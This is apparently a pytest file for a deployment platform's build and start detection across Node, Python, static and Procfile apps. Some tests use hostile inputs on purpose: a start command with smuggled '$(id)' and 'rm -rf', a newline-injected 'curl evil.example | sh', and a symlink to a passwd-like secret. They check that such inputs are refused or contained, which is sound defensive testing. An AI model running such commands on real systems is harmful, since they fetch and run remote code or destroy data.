"""Runtime detection (deployments/builders): pure inspection of app directories. The real
installs and starts of the sample apps are in test_builders_real.py."""

import json
from pathlib import Path

import pytest

from deployments.engine.builders import BuildError, cache_env, detect, parse_procfile
from deployments.engine.builders.static import SERVER
from deployments.tests.sample_apps import PROCFILE_APP, STATIC_SITE

SH = "/bin/sh"


def write_app(root: Path, files: dict[str, str], symlinks: dict[str, str] | None = None) -> Path:
    app = root / "app"
    app.mkdir()
    for name, content in files.items():
        (app / name).parent.mkdir(parents=True, exist_ok=True)
        (app / name).write_text(content)
    for name, target in (symlinks or {}).items():
        (app / name).symlink_to(target)
    return app


def package(scripts=None, **extra):
    return json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts or {}, **extra})


def argvs(plan):
    return [step.argv for step in plan.steps]


# Node ---------------------------------------------------------------------------------------

def test_node_with_a_lockfile_installs_with_npm_ci_builds_and_starts(tmp_path):
    app = write_app(tmp_path, {
        "package.json": package({"build": "tsc", "start": "node dist/server.js"}),
        "package-lock.json": "{}",
    })
    plan = detect(app)
    assert plan.runtime == "node"
    assert argvs(plan) == [["npm", "ci"], ["npm", "run", "build"]]
    assert [step.label for step in plan.steps] == ["npm ci", "npm run build"]
    assert all(step.cwd == app for step in plan.steps)
    assert plan.processes == {"web": ["npm", "start"]}
    assert plan.path_prefix == [str(app / "node_modules" / ".bin")]


@pytest.mark.parametrize("files, install", [
    ({}, ["npm", "install"]),
    ({"npm-shrinkwrap.json": "{}"}, ["npm", "ci"]),
    ({"package-lock.json": "{}"}, ["npm", "ci"]),
])
def test_node_uses_npm_ci_only_with_a_lock(tmp_path, files, install):
    app = write_app(tmp_path, {"package.json": package({"start": "node a.js"}), **files})
    assert argvs(detect(app)) == [install]


def test_node_without_a_start_script_starts_server_js(tmp_path):
    app = write_app(tmp_path, {"package.json": package(), "server.js": ""})
    assert detect(app).processes == {"web": ["npm", "start"]}


def test_node_with_nothing_to_start_says_what_to_add(tmp_path):
    app = write_app(tmp_path, {"package.json": package({"build": "vite build", "start": " "})})
    with pytest.raises(BuildError, match="no “start” script and there is no server.js"):
        detect(app)


def test_the_services_build_command_replaces_the_build_step_not_the_install(tmp_path):
    app = write_app(tmp_path, {"package.json": package({"build": "tsc", "start": "node a.js"})})
    plan = detect(app, build_command="npm run build:prod && echo done")
    assert argvs(plan) == [["npm", "install"], [SH, "-c", "npm run build:prod && echo done"]]
    assert plan.steps[1].label == "npm run build:prod && echo done"


@pytest.mark.parametrize("content, message", [
    ('{"name": "x",, }', r"package.json is not valid JSON \(line 1, column 14"),
    ("[1, 2]", "must hold a JSON object"),
    ('{"scripts": ["start"]}', "“scripts” of package.json must be an object"),
])
def test_a_broken_package_json_is_a_clear_error(tmp_path, content, message):
    app = write_app(tmp_path, {"package.json": content})
    with pytest.raises(BuildError, match=message):
        detect(app)


def test_a_package_json_that_is_not_utf8_is_a_clear_error(tmp_path):
    app = write_app(tmp_path, {})
    (app / "package.json").write_bytes(b'{"name": "caf\xe9"}')
    with pytest.raises(BuildError, match="package.json is not UTF-8"):
        detect(app)


def test_node_is_detected_before_python(tmp_path):
    app = write_app(tmp_path, {"package.json": package({"start": "node a.js"}),
                               "requirements.txt": "", "index.html": ""})
    assert detect(app).runtime == "node"


# Processes: start command > Procfile > runtime default ----------------------------------------

def test_a_procfile_web_replaces_the_default_and_adds_its_other_types(tmp_path):
    app = write_app(tmp_path, {
        "package.json": package({"start": "node server.js"}),
        "Procfile": "web: node --max-old-space-size=256 server.js\nworker: node worker.js\n",
    })
    assert detect(app).processes == {
        "web": [SH, "-c", "node --max-old-space-size=256 server.js"],
        "worker": [SH, "-c", "node worker.js"],
    }


def test_a_procfile_without_web_keeps_the_default_web(tmp_path):
    app = write_app(tmp_path, {"package.json": package({"start": "node server.js"}),
                               "Procfile": "worker: node worker.js\n"})
    assert detect(app).processes == {
        "web": ["npm", "start"], "worker": [SH, "-c", "node worker.js"]
    }


def test_the_start_command_replaces_web_and_stays_one_argument(tmp_path):
    app = write_app(tmp_path, {"package.json": package({"start": "node server.js"}),
                               "Procfile": "web: node a.js\nworker: node worker.js\n"})
    command = "node server.js --port $PORT; echo '$(id)' && rm -rf ./tmp #"
    plan = detect(app, start_command=f"  {command}  ")
    assert plan.processes == {"web": [SH, "-c", command], "worker": [SH, "-c", "node worker.js"]}


@pytest.mark.parametrize("field", ["build_command", "start_command"])
@pytest.mark.parametrize("newline", ["\n", "\r", "\r\n", "\x00"])
def test_commands_with_newlines_are_refused(tmp_path, field, newline):
    app = write_app(tmp_path, {"package.json": package({"start": "node a.js"})})
    with pytest.raises(BuildError, match="must be a single line"):
        detect(app, **{field: f"npm test{newline}curl evil.example | sh"})


# Python -------------------------------------------------------------------------------------

def test_python_gets_a_virtualenv_pip_and_its_procfile(tmp_path):
    app = write_app(tmp_path, {"requirements.txt": "flask\n", "Procfile": "web: python app.py"})
    plan = detect(app)
    venv = app / ".venv"
    assert plan.runtime == "python"
    assert argvs(plan) == [
        ["python3", "-m", "venv", ".venv"],
        [str(venv / "bin" / "python"), "-m", "pip", "install", "-r", "requirements.txt"],
    ]
    assert plan.path_prefix == [str(venv / "bin")]
    assert plan.env["VIRTUAL_ENV"] == str(venv)
    assert "PATH" not in plan.env
    assert plan.processes == {"web": [SH, "-c", "python app.py"]}


def test_python_without_a_start_command_says_to_add_one(tmp_path):
    app = write_app(tmp_path, {"requirements.txt": ""})
    with pytest.raises(BuildError, match="add a Procfile .* or set the service's start command"):
        detect(app)
    plan = detect(app, start_command="gunicorn app:app", build_command="python manage.py x")
    assert plan.processes == {"web": [SH, "-c", "gunicorn app:app"]}
    assert argvs(plan)[-1] == [SH, "-c", "python manage.py x"]


@pytest.mark.parametrize("files, install", [
    ({"pyproject.toml": '[project]\nname = "app"\nversion = "1"\n'}, ["."]),
    ({"pyproject.toml": '[build-system]\nrequires = ["hatchling"]\n'}, ["."]),
    ({"pyproject.toml": "[tool.ruff]\nline-length = 100\n"}, None),
    ({"pyproject.toml": '[project]\nname = "app"\n', "requirements.txt": ""},
     ["-r", "requirements.txt"]),
])
def test_python_installs_what_it_finds(tmp_path, files, install):
    app = write_app(tmp_path, {**files, "Procfile": "web: python app.py"})
    steps = argvs(detect(app))
    assert steps[0] == ["python3", "-m", "venv", ".venv"]
    if install is None:
        assert len(steps) == 1
    else:
        assert steps[1][1:] == ["-m", "pip", "install", *install]


def test_an_invalid_pyproject_is_a_clear_error(tmp_path):
    app = write_app(tmp_path, {"pyproject.toml": "[project\n", "Procfile": "web: python a.py"})
    with pytest.raises(BuildError, match="pyproject.toml is not valid TOML"):
        detect(app)


# Static, Procfile-only, nothing --------------------------------------------------------------

def test_a_static_site_is_served_by_the_hosts_static_server(tmp_path):
    plan = detect(write_app(tmp_path, STATIC_SITE))
    assert plan.runtime == "static"
    assert plan.steps == []
    assert plan.processes == {"web": SERVER}
    assert SERVER == [SH, "-c", 'exec python3 -m http.server "$PORT" --bind 127.0.0.1']


def test_a_static_site_may_have_a_build_and_a_start_command(tmp_path):
    plan = detect(write_app(tmp_path, STATIC_SITE), build_command="make site",
                  start_command="caddy file-server")
    assert argvs(plan) == [[SH, "-c", "make site"]]
    assert plan.processes == {"web": [SH, "-c", "caddy file-server"]}


def test_a_procfile_only_app_has_no_steps(tmp_path):
    plan = detect(write_app(tmp_path, PROCFILE_APP))
    assert plan.runtime == "procfile"
    assert plan.steps == []
    assert set(plan.processes) == {"web", "worker"}
    assert plan.processes["worker"] == [
        SH, "-c", 'while true; do echo "worker tick"; sleep 1; done'
    ]


def test_a_procfile_wins_over_index_html(tmp_path):
    plan = detect(write_app(tmp_path, {**STATIC_SITE, "Procfile": "web: ./serve.sh"}))
    assert plan.runtime == "procfile"
    assert plan.processes == {"web": [SH, "-c", "./serve.sh"]}


def test_a_worker_only_procfile_is_accepted(tmp_path):
    plan = detect(write_app(tmp_path, {"Procfile": "worker: ./work.sh"}))
    assert plan.processes == {"worker": [SH, "-c", "./work.sh"]}


def test_a_procfile_of_comments_only_defines_nothing(tmp_path):
    with pytest.raises(BuildError, match="The Procfile defines no process"):
        detect(write_app(tmp_path, {"Procfile": "# nothing yet\n\n"}))


def test_nothing_detected_lists_what_was_looked_for(tmp_path):
    app = write_app(tmp_path, {"README.md": "hello", "main.go": "package main"})
    with pytest.raises(BuildError) as error:
        detect(app)
    for name in ("Procfile", "package.json", "requirements.txt", "pyproject.toml", "index.html",
                 "start command"):
        assert name in str(error.value)
    plan = detect(app, start_command="./bin/server")
    assert plan.runtime == "procfile"
    assert plan.processes == {"web": [SH, "-c", "./bin/server"]}


def test_a_relative_app_directory_gives_absolute_paths(tmp_path, monkeypatch):
    write_app(tmp_path, {"requirements.txt": "", "Procfile": "web: python app.py"})
    monkeypatch.chdir(tmp_path)
    plan = detect(Path("app"))
    assert plan.steps[1].argv[0] == str(tmp_path / "app" / ".venv" / "bin" / "python")
    assert all(step.cwd == tmp_path / "app" for step in plan.steps)


def test_a_missing_app_directory_is_an_error(tmp_path):
    with pytest.raises(BuildError, match="does not exist"):
        detect(tmp_path / "missing")


@pytest.mark.parametrize("name", ["package.json", "Procfile", "requirements.txt", "index.html"])
def test_manifests_linking_outside_the_app_are_refused_without_showing_them(tmp_path, name):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET-CONTENT\n")
    app = write_app(tmp_path, {}, symlinks={name: str(secret)})
    with pytest.raises(BuildError, match=f"{name} is a symbolic link") as error:
        detect(app)
    assert "SECRET-CONTENT" not in str(error.value)


def test_a_manifest_linking_inside_the_app_is_followed(tmp_path):
    app = write_app(tmp_path, {"deploy/Procfile": "web: ./serve"}, {"Procfile": "deploy/Procfile"})
    assert detect(app).processes == {"web": [SH, "-c", "./serve"]}


# Procfile parsing ---------------------------------------------------------------------------

def test_parse_procfile_reads_types_and_commands():
    text = (
        "\ufeff# processes\r\n"
        "web: gunicorn app:app --bind 0.0.0.0:$PORT\r\n"
        "\r\n"
        "  release_phase-2 :python manage.py migrate  \r\n"
        "clock:python -c 'print(1:2)'\n"
    )
    assert parse_procfile(text) == {
        "web": "gunicorn app:app --bind 0.0.0.0:$PORT",
        "release_phase-2": "python manage.py migrate",
        "clock": "python -c 'print(1:2)'",
    }


@pytest.mark.parametrize("text, message", [
    ("web: ok\nnode server.js\n", "line 2 is not “type: command”.*node server.js"),
    ("we b: node a.js", "line 1 is not"),
    ("wëb: node a.js", "line 1 is not"),
    ("web.1: node a.js", "line 1 is not"),
    ("web:\n", "line 1 has no command for “web”"),
    ("web: a\n\nweb: b\n", "line 3 defines “web” a second time"),
    ("web: node\x00a.js", r"line 1 is not .*node\\0a.js"),
])
def test_parse_procfile_names_the_bad_line(text, message):
    with pytest.raises(BuildError, match=message):
        parse_procfile(text)


def test_cache_env_puts_npm_and_pip_caches_in_the_service_cache(tmp_path):
    env = cache_env(tmp_path)
    assert env["npm_config_cache"] == str(tmp_path / "npm")
    assert env["PIP_CACHE_DIR"] == str(tmp_path / "pip")
    assert env["npm_config_prefer_offline"] == "true"

